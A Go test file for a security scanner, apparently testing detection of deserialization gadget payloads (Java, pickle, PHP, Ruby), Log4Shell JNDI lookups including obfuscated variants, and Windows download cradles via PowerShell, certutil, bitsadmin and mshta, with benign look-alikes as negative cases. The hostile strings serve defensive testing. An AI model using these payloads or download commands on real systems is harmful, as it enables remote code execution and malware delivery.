package scan

import (
	"encoding/base64"
	"testing"
)

// Objects that run code are found behind encodings, too, although what serialises
// them is opened.
func TestGadgetFamily(t *testing.T) {
	invoker := "org.apache.commons.collections.functors." + "InvokerTransformer"
	java := "\xac\xed\x00\x05sr\x00\x3a" + invoker + "\x87\xe8\xff\x6b\x7b\x7c\xce\x38\x02\x00\x00xp"
	pickle := "c" + "posix\nsystem\n(S'id'\ntR."
	pickle4 := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
	php := `O:40:"Illuminate\Broadcasting\` + `PendingBroadcast":0:{}`
	ruby := "\x04\x08o:\x40ActiveSupport::Deprecation::" + "DeprecatedInstanceVariableProxy\x00"
	for name, value := range map[string]string{"java": java, "pickle 0": pickle, "pickle 4": pickle4, "php": php, "ruby": ruby,
		"pickle 2":       "\x80\x02c" + "subprocess\nPopen\n(S'id'\ntR.",
		"java in base64": base64.StdEncoding.EncodeToString([]byte(java)), "pickle in gzip": compressed("gzip")("", pickle4)} {
		found := findingsIn(t, "k", value)
		if len(found) != 1 || found[0].Rule != gadgetRule || found[0].Severity != Critical {
			t.Errorf("%s: found %s", name, brief(found))
		}
	}
	testArtefacts(t, []artefactCase{
		{"stack trace", "at " + invoker + ".transform(InvokerTransformer.java:126)", "", ""},
		{"pickle of a function", "\x80\x04\x95\x17\x00\x00\x00\x00\x00\x00\x00\x8c\x04math\x94\x8c\x04sqrt\x94\x93\x94.", "", ""},
		{"pickle of a dict", "\x80\x02}q\x00X\x05\x00\x00\x00posixq\x01X\x04\x00\x00\x00pathq\x02s.", "", ""},
		{"script", "import os\nos.system('id')\n", "", ""},
		{"lookup", "${jndi:" + "ldap://" + address + ":1389/a}", "jndi-lookup", "T1190"},
		{"disguised", "ua=${${lower:j}ndi:${lower:l}dap://" + address + "/a}", "jndi-lookup", "T1190"},
		{"about it", "log4j resolved ${jndi:name} once", "", ""},
		{"template", "${${env}://host}", "", ""},
	})
}

func TestWindowsFamily(t *testing.T) {
	const rule, technique = "windows-download", "T1105"
	client := "(New-Object Net.WebClient).Download" + "String('http://" + address + "/a')"
	testArtefacts(t, []artefactCase{
		{"powershell", `powershell -nop -w hidden -c "IEX` + client + `"`, rule, technique},
		{"certutil", "certutil " + "-urlcache -split -f http://" + address + "/a.exe a.exe", rule, technique},
		{"bitsadmin", "bitsadmin " + "/transfer j /download http://" + address + "/a.exe C:\\a.exe", rule, technique},
		{"mshta", "mshta " + "http://" + address + "/a.hta", rule, technique},
		{"script that reads", "$page = " + client, "", ""},
		{"certificate", "certutil -hashfile https://a/b SHA256", "", ""},
		{"sentence", "mshta opens pages such as http://example.org", "", ""},
	})
}
